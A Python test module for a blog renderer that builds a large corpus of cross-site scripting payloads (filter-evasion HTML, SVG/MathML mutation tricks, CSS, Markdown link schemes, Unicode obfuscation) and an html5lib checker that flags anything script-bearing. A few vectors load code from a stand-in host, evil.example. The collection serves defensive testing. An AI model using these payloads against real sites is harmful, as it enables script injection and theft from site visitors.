"""An XSS corpus and an inertness check for HTML that blog.rendering.render produces.

The vectors come from public knowledge of cross-site scripting: the OWASP XSS filter evasion
cheat sheet, PortSwigger's XSS cheat sheet, html5sec.org, the CommonMark spec's raw HTML and
link rules, and mutation-XSS write-ups (DOMPurify and bleach advisories). Each one, if it
survived, would run script: most call ``alert(1)`` or set ``window.__xss``, which the browser
test (tests/test_xss_browser.py) watches for.

``assert_inert`` parses HTML the way a browser does (html5lib implements the WHATWG parser)
and fails on anything that could run script or load active content.
"""

from __future__ import annotations

import re
from itertools import product

import html5lib

# --- Raw HTML: script, event handlers, active elements ------------------------------------
RAW_HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT>window.__xss=1</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    "<script/src=data:,alert(1)></script>",
    "<script\x0c>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    '<script type="text/javascript">window.__xss=1</script>',
    '<script type="module">window.__xss=1</script>',
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=window.__xss=1>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x OnErRoR=alert(1)>",
    "<img src=x onerror\x0b=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    '<img src=x:alert(1) onerror="eval(src)">',
    "<img src onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<image src=x onerror=alert(1)>",
    "<img srcset=x onerror=alert(1)>",
    '<img srcset="javascript:alert(1) 1x">',
    "<img dynsrc=javascript:alert(1)>",
    "<img lowsrc=javascript:alert(1)>",
    '<a href="#" onclick="alert(1)">click</a>',
    "<a onmouseover=alert(1)>hover</a>",
    "<a href=x onfocus=alert(1) autofocus id=x>focus</a>",
    '<p onclick="alert(1)">p</p>',
    '<div onpointerenter="window.__xss=1">div</div>',
    "<details open ontoggle=alert(1)><summary>s</summary>d</details>",
    "<body onload=alert(1)>",
    '<body background="javascript:alert(1)">',
    "<frameset onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<keygen autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<video poster=javascript:alert(1)></video>",
    "<marquee onstart=alert(1)>m</marquee>",
    "<object data=javascript:alert(1)></object>",
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    "<embed src=javascript:alert(1)>",
    '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="&lt;script&gt;parent.__xss=1&lt;/script&gt;"></iframe>',
    "<iframe onload=alert(1)></iframe>",
    "<frame src=javascript:alert(1)>",
    "<applet code=x onload=alert(1)></applet>",
    "<base href=javascript:alert(1)//>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="import" href="data:text/html,<script>alert(1)</script>">',
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<button formaction=javascript:alert(1)>go</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<table background=javascript:alert(1)><tr><td>t</td></tr></table>",
    "<td background=javascript:alert(1)>",
    '<div style="x:expression(alert(1))">e</div>',
    "<xss onafterscriptexecute=alert(1)><script>1</script>",
    "<template><img src=x onerror=alert(1)></template>",
    '<a href="javascript:alert(1)" id="x" class="y" rel="z">ok</a>',
    "<a href=javascript:alert(1)>unquoted</a>",
    '<a href=" javascript:alert(1)">leading space</a>',
    '<a href="javascript&colon;alert(1)">colon entity</a>',
    '<a href="jav&#x09;ascript:alert(1)">tab entity</a>',
    '<a href="jav&#x0A;ascript:alert(1)">newline entity</a>',
    '<a href="jav&#x0D;ascript:alert(1)">cr entity</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">hex</a>',
    '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">no semicolons</a>',
    '<a href="&#0000106&#0000097vascript:alert(1)">leading zeros</a>',
    '<a href="java&Tab;script:alert(1)">named tab</a>',
    '<a href="java&NewLine;script:alert(1)">named newline</a>',
    '<a href="\x01javascript:alert(1)">control char</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="data:text/html,<script>alert(1)</script>">data</a>',
    '<a href="livescript:alert(1)">live</a>',
    '<a href="javascript://%0aalert(1)">comment trick</a>',
]

# --- SVG and MathML: foreign content has its own parsing rules and script vectors ----------
FOREIGN = [
    "<svg onload=alert(1)>",
    "<svg/onload=window.__xss=1>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    '<svg><a href="javascript:alert(1)"><rect width="100" height="100"/></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1) /></svg>",
    '<svg><animate attributeName="href" values="javascript:alert(1)" /></svg>',
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><title><img src=x onerror=alert(1)></title></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='x' onerror='alert(1)'/></svg>#x\"/></svg>",
    "<math href=javascript:alert(1)>click</math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>m</mi></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>m</maction></math>",
    "<math><style><img src=x onerror=alert(1)></style></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
]

# --- Parser tricks: comments, raw-text elements, mutation XSS -------------------------------
PARSER = [
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<!DOCTYPE x><img src=x onerror=alert(1)>",
    "<?xml-stylesheet href=javascript:alert(1)?>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<noframes><img src=x onerror=alert(1)></noframes>",
    "<iframe><img src=x onerror=alert(1)></iframe>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<style><img src=x onerror=alert(1)></style>",
    "<a title='</a><img src=x onerror=alert(1)>'>t</a>",
    '<img alt="`><img src=x onerror=alert(1)>" src=x>',
    '<p title="a"onclick="alert(1)">no space between attributes</p>',
    '<p title=a"onclick="alert(1)">quote in unquoted value</p>',
    '<div id="x"></div><div id="x" onclick=\'alert(1)\'>dup</div>',
    "<a href=https://example.com/ title=x onmouseover=alert(1)//>t</a>",
    "<img src=x\x00onerror=alert(1)>",
    "<scr\x00ipt>alert(1)</script>",
    "\x00<script>alert(1)</script>",
    "<div><script>alert(1)</script></div>",
    "<table><tr><td><script>alert(1)</script></td></tr></table>",
    "<table><script>alert(1)</script></table>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<p>a<script>alert(1)</p>",
    "<img src=x onerror=alert(1)//",
    "<img src=x onerror=alert(1)\n",
]

# --- CSS ------------------------------------------------------------------------------------
CSS = [
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<style>*{-moz-binding:url(//evil.example/x.xml#x)}</style>",
    "<style>*{behavior:url(x.htc)}</style>",
    '<link rel="stylesheet" href="javascript:alert(1)">',
    '<p style="background:url(javascript:alert(1))">bg</p>',
    '<p style="background-image:url(&quot;javascript:alert(1)&quot;)">bg</p>',
    '<p style="width:expression(alert(1))">ie</p>',
    '<p style="xss:ex/**/pression(alert(1))">comment split</p>',
    '<p style="xss:\\65 xpression(alert(1))">css escape</p>',
    '<p style="behavior:url(x.htc)">behavior</p>',
    '<p style="-moz-binding:url(//evil.example/x.xml#x)">binding</p>',
    '<td style="text-align:left;background:url(javascript:alert(1))">cell</td>',
    '<th style="text-align: url(javascript:alert(1))">head</th>',
    '<table><tr><td style="text-align:left; x:expression(alert(1))">t</td></tr></table>',
    '<span style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</span>',
    '<div style="&#x62;ackground:url(javascript:alert(1))">entity in style</div>',
]

# --- Markdown: links, images, references, autolinks, code, and the extensions enabled -------
MARKDOWN = [
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click]( javascript:alert(1) )",
    "[click](javascript&#58;alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](&#x6A;avascript:alert(1))",
    "[click](java%0ascript:alert(1))",
    "[click](javas\tcript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](\\javascript:alert(1))",
    '[click](javascript:alert(1) "title")',
    '[click](http://example.com "a" onmouseover="alert(1)")',
    '[click](http://example.com"onmouseover="alert(1))',
    '[click](http://example.com "</a><img src=x onerror=alert(1)>")',
    "[<img src=x onerror=alert(1)>](http://example.com)",
    "[x](http://example.com)<img src=x onerror=alert(1)>",
    "[[click](javascript:alert(1))](http://example.com)",
    "[a](javascript:alert(1)[b](http://example.com))",
    "![pic](javascript:alert(1))",
    "![pic](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![pic](x "onerror=alert(1)")',
    '![pic](x" onerror="alert(1))',
    "![<img src=x onerror=alert(1)>](http://example.com/a.png)",
    '![x"onerror="alert(1)](http://example.com/a.png)',
    "[![img](javascript:alert(1))](javascript:alert(1))",
    "[ref]\n\n[ref]: javascript:alert(1)",
    '[ref][r]\n\n[r]: javascript:alert(1) "t"',
    "![img][r]\n\n[r]: javascript:alert(1)",
    "[ref][r]\n\n[r]: <javascript:alert(1)>",
    '[ref][r]\n\n[r]: http://example.com "" onclick="alert(1)"',
    "[ref][r]\n\n[r]: data:text/html,<script>alert(1)</script>",
    "[ref][r]\n\n[r]:\tvbscript:msgbox(1)",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    '<http://example.com/"onmouseover="alert(1)>',
    "<a@b.c onmouseover=alert(1)>",
    '<mailto:a@b.c?body="><script>alert(1)</script>>',
    "<http://a<script>alert(1)</script>>",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    '```html" onclick="alert(1)\n<b>x</b>\n```',
    '```"><script>alert(1)</script>\n1\n```',
    "    <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>\n\n## b\n\n## c",
    "## [toc](javascript:alert(1))\n\n## b\n\n## c",
    '## x" onmouseover="alert(1)\n\n## b\n\n## c',
    "## <script>alert(1)</script>\n\n### <svg onload=alert(1)>\n\n"
    "## <a href=javascript:alert(1)>t</a>",
    "Note[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    'Note[^x"onclick="alert(1)]\n\n[^x"onclick="alert(1)]: text',
    "Note[^1]\n\n[^1]: [link](javascript:alert(1))",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "| a |\n|:-:|\n| <script>alert(1)</script> |",
    "> <script>alert(1)</script>",
    "> [quote](javascript:alert(1))",
    "- <img src=x onerror=alert(1)>\n- [x](javascript:alert(1))",
    "1. <svg onload=alert(1)>",
    "*<img src=x onerror=alert(1)>*",
    "**[bold](javascript:alert(1))**",
    '<div markdown="1">[x](javascript:alert(1))</div>',
    "<div>\n\n[x](javascript:alert(1))\n\n</div>",
    "<p>\n<script>alert(1)</script>\n</p>",
    "Setext <script>\n===\n",
    '[x](#" onclick="alert(1))',
    '[x](/relative" onclick="alert(1))',
    "[x](https://example.com/?q=<script>alert(1)</script>)",
    "[x](//evil.example/%0a%0d<script>alert(1)</script>)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "<scr\\ipt>alert(1)</script>",
]

# --- Unicode and encoding tricks --------------------------------------------------------------
UNICODE = [
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    '<a href="java\u200bscript:alert(1)">zero width</a>',
    '<a href="\u2028javascript:alert(1)">line separator</a>',
    '<a href="\ufeffjavascript:alert(1)">bom</a>',
    "[x](\u00a0javascript:alert(1))",
    "<img src=x onerror=\\u0061lert(1)>",  # a JS identifier escape
    '<a href="&#x1;javascript:alert(1)">entity control</a>',
    '<a href="&#0;javascript:alert(1)">entity nul</a>',
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<\\u0073cript>alert(1)</script>",
    "<script\u00a0>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "<ſcript>alert(1)</ſcript>",
    '<a href="javaſcript:alert(1)">long s</a>',
]


def _scheme_variants() -> list[str]:
    """Obfuscated spellings of script-bearing schemes, each put in every URL context."""
    schemes = [
        "javascript:alert(1)",
        "JAVASCRIPT:window.__xss=1",
        "java\tscript:alert(1)",
        "java&#x09;script:alert(1)",
        "&#x20;javascript:alert(1)",
        "javascript&#x3A;alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
    ]
    contexts = [
        "[link]({})",
        "![image]({})",
        '<a href="{}">raw link</a>',
        '<img src="{}">',
        "[ref][d]\n\n[d]: {}",
    ]
    return [context.format(scheme) for context, scheme in product(contexts, schemes)]


# --- Elements and attributes the allowlist offers authors beyond the basics -----------------
ALLOWED_MARKUP = [
    '<video controls src="javascript:alert(1)"></video>',
    '<video poster="javascript:alert(1)" controls></video>',
    '<video><source src="javascript:alert(1)" onerror="alert(1)"></video>',
    '<video><track src="javascript:alert(1)"></video>',
    '<audio controls><source src="data:audio/mp3;base64,AAAA" onerror=alert(1)></audio>',
    '<audio src="java&#x09;script:alert(1)" controls></audio>',
    '<picture><source srcset="javascript:alert(1)"><img src=x onerror=alert(1)></picture>',
    '<picture><source srcset="/a.png 1x, javascript:alert(1) 2x"><img src="/a.png"></picture>',
    '<picture><source srcset="java&#x09;script:alert(1) 1x"></picture>',
    '<picture><source srcset="data:image/svg+xml,<svg onload=alert(1)> 1x"></picture>',
    '<time datetime="2024" onmouseover="alert(1)">t</time>',
    '<details open ontoggle="window.__xss=1"><summary>s</summary>d</details>',
    '<ol type="a" start="1" reversed onclick="alert(1)"><li>x</li></ol>',
    '<blockquote cite="javascript:alert(1)">q</blockquote>',
    '<q cite="vbscript:msgbox(1)">q</q>',
    '<ins cite="data:text/html,x" datetime="x">i</ins>',
    '<a href="javascript:alert(1)" target="_blank">x</a>',
    '<a href="https://e.example" target="_blank" rel="opener">x</a>',
    '<a href="x" target="_blank" rel="noopener" onclick="alert(1)">x</a>',
    '<a href="x" target="_self" formtarget="_blank">x</a>',
    '<table><colgroup onmouseover=alert(1)><col span="1" '
    'style="background:url(javascript:alert(1))"></colgroup><tr><td>x</td></tr></table>',
]

VECTORS: list[str] = (
    RAW_HTML + FOREIGN + PARSER + CSS + MARKDOWN + UNICODE + ALLOWED_MARKUP + _scheme_variants()
)

# --- The inertness check ------------------------------------------------------------------------

# Elements that run script, load active content, or change how the rest of the page is parsed
# or where its links and forms go. Media (video, audio, source, picture) only play or show what
# their URL attributes point at, which the attribute checks below cover.
FORBIDDEN_ELEMENTS = frozenset(
    {
        "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet",
        "svg", "math", "base", "link", "meta", "form", "input", "button", "select",
        "textarea", "template", "noscript", "xmp", "plaintext", "noembed", "noframes",
        "portal", "isindex", "keygen", "marquee", "body", "html",
        "title",
    }
)  # fmt: skip
# MathML that only lays out a formula (MathML Core's presentation elements): allowed, with
# no attribute that names a URL or script. mglyph, malignmark, maction, semantics and
# annotation-xml, the elements of MathML's mutation-XSS vectors, are not among them.
MATHML = "{http://www.w3.org/1998/Math/MathML}"
SAFE_MATHML_ELEMENTS = frozenset(
    {
        "math", "menclose", "mfrac", "mi", "mn", "mo", "mover", "mpadded", "mphantom", "mroot",
        "mrow", "mspace", "msqrt", "mstyle", "msub", "msubsup", "msup", "mtable", "mtd",
        "mtext", "mtr", "munder", "munderover",
    }
)  # fmt: skip
URL_ATTRIBUTES = frozenset(
    {"href", "src", "srcset", "action", "formaction", "xlink:href", "background", "poster",
     "dynsrc", "lowsrc", "data", "codebase", "cite", "longdesc", "ping", "usemap"}
)  # fmt: skip
BAD_SCHEMES = ("javascript:", "vbscript:", "data:", "livescript:")
BAD_CSS = ("expression", "url(", "javascript", "behavior", "-moz-binding", "@import", "\\")
# What browsers drop from a URL before reading its scheme: C0 controls and space, plus the
# tab and newlines they strip anywhere in it. The zero-width and other format characters
# are not stripped by browsers, but are removed here too to be stricter than needed.
_URL_JUNK = re.compile(r"[\x00-\x20\x7f-\x9f\u00a0\u200b-\u200f\u2028\u2029\ufeff]+")


def _attribute_name(name: object) -> str:
    # html5lib's etree names namespaced attributes "{namespace}local".
    return str(name).rsplit("}", 1)[-1].lower()


def problems(html: str) -> list[str]:
    """Everything in ``html`` that could run script; [] when it is inert."""
    found: list[str] = []
    root = html5lib.parseFragment(html, namespaceHTMLElements=False)
    for element in root.iter():
        if element is root or not isinstance(element.tag, str):
            continue  # the fragment itself, and comments
        tag = element.tag.rsplit("}", 1)[-1].lower()
        safe_mathml = element.tag.startswith(MATHML) and tag in SAFE_MATHML_ELEMENTS
        if not safe_mathml and (tag in FORBIDDEN_ELEMENTS or element.tag.startswith("{")):
            found.append(f"element <{element.tag}>")
        for raw_name, value in element.attrib.items():
            name = _attribute_name(raw_name)
            if name.startswith("on"):
                found.append(f"event handler {name}= on <{tag}>")
            if name in URL_ATTRIBUTES:
                # html5lib has already decoded entities, as a browser does. A srcset is a
                # comma-separated list of URLs, each followed by a descriptor.
                urls = value.split(",") if name == "srcset" else [value]
                for url in urls:
                    compact = _URL_JUNK.sub("", url).lower()
                    if compact.startswith(BAD_SCHEMES):
                        found.append(f"{name}={value!r} on <{tag}>")
            if name == "style" and any(bad in value.lower() for bad in BAD_CSS):
                found.append(f"style={value!r} on <{tag}>")
    return found


def assert_inert(html: str, source: str = "") -> None:
    """Fail with the offending parts when ``html`` could run script."""
    found = problems(html)
    assert not found, f"{found}\nsource: {source!r}\noutput: {html!r}"
